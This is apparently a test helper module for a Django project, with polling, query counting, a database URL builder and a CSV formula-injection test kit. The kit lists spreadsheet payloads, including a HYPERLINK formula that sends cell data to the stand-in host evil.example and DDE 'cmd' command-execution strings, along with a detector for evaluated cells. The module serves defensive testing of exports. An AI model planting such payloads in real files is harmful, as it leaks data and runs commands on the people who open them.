"""Small helpers for tests."""

from __future__ import annotations

import csv
import io
import re
import time
from collections.abc import Callable
from typing import TypeVar
from urllib.parse import quote

import pytest
from django.conf import settings
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

T = TypeVar("T")


def wait_until(condition: Callable[[], T], timeout: float = 20, interval: float = 0.1) -> T:
    """Poll ``condition`` until it returns something truthy; fail the test after ``timeout`` seconds."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if result := condition():
            return result
        time.sleep(interval)
    pytest.fail(f"condition not met within {timeout} s")


def queries_for(client: Client, path: str, params: dict[str, str] | None = None) -> int:
    """How many database queries a successful GET of ``path`` runs."""
    with CaptureQueriesContext(connection) as captured:
        response = client.get(path, params or {})
    assert response.status_code == 200
    return len(captured.captured_queries)


def database_url(name: str) -> str:
    """A URL for database ``name`` on the test database's server, as another process's DATABASE_URL."""
    database = settings.DATABASES["default"]
    host = quote(str(database.get("HOST") or ""), safe="")
    port = f":{database['PORT']}" if database.get("PORT") else ""
    password = f":{quote(str(database['PASSWORD']), safe='')}" if database.get("PASSWORD") else ""
    return f"postgresql://{quote(str(database.get('USER') or ''), safe='')}{password}@{host}{port}/{name}"


# Values a spreadsheet would run as formulas, each hidden the way an attacker would: at the start of a
# cell, after a ";" or "," that a spreadsheet of another locale reads as a separator, after a line
# break or a tab, behind spaces and quotes. Exports are tested with all of them at once.
FORMULA_PAYLOADS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    'x;=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "x,+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "x\n=1+1",
    'x; "=1+1"',
)
# The ones a file of its own can carry through any loader; those with a line break are for text fields only.
ONE_LINE_FORMULA_PAYLOADS = tuple(payload for payload in FORMULA_PAYLOADS if not set(payload) & set("\r\n"))
_EVALUATED = tuple("=+-@\t\r\n\0")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def formulas_in(text: str) -> list[str]:
    """The cells of a CSV file that some spreadsheet would evaluate, as the file is read there.

    Reads it as spreadsheets of different locales and import settings do: with ``,``, ``;`` or a tab
    as the separator, honouring double quotes or not. A cell whose first character (after spaces and
    quotes) starts a formula counts, unless it is a plain number, which computes nothing.
    """
    found = []
    for delimiter in (",", ";", "\t"):
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting):
                for cell in row:
                    shown = cell.lstrip(' "')
                    if shown.startswith(_EVALUATED) and not _NUMBER.fullmatch(shown.rstrip(' "')):
                        found.append(cell)
    return found
